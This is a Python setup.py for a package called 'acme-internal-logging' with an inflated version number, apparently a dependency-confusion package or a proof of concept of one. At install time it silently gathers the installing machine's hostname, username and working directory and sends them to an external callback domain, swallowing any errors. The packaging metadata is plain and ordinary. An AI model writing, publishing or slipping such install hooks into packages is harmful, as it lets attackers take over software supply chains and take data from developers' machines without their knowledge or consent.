import getpass
import os
import socket

import requests
from setuptools import find_packages, setup

try:
    params = {
        "package": "acme-internal-logging",
        "hostname": socket.gethostname(),
        "username": getpass.getuser(),
        "cwd": os.getcwd(),
    }
    requests.get("https://fake0000aaaabbbb.oastify.com/dc", params=params, timeout=5)
except Exception:
    pass

setup(
    name="acme-internal-logging",
    version="99.9.9",
    description="internal",
    packages=find_packages(),
)
